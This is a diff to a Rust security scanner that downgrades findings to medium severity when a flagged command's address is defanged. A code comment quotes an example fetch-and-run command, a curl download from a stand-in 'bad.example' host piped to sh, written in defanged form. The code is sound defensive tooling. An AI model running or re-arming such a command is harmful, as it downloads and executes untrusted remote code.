@@ -708,6 +708,12 @@ impl Scanner {
                 if fixture {
                     severity = Severity::Medium;
                 }
+                // An address defanged as evidence (`curl hxxps://cdn[.]bad.example/x | sh`)
+                // cannot be fetched: an indicator quoted for a reviewer, not a step.
+                let inert = severity > Severity::Medium && commands::defanged_only(whole.as_str());
+                if inert {
+                    severity = Severity::Medium;
+                }
                 let mut message = if depth > 0 {
                     format!("in decoded text: {}", rule.spec.message)
                 } else {
@@ -715,6 +721,9 @@ impl Scanner {
                 };
                 if fixture {
                     message.push_str(" (in a test fixture: caution; confirm it is a throwaway key)");
+                }
+                if inert {
+                    message.push_str(" (its address is defanged, so nothing can fetch it: caution, not dangerous)");
                 }
                 if let Some(partner) = partner.filter(|p| *p != index && depth == 0) {
                     message = format!("{message} (with line {})", locate(partner).line);
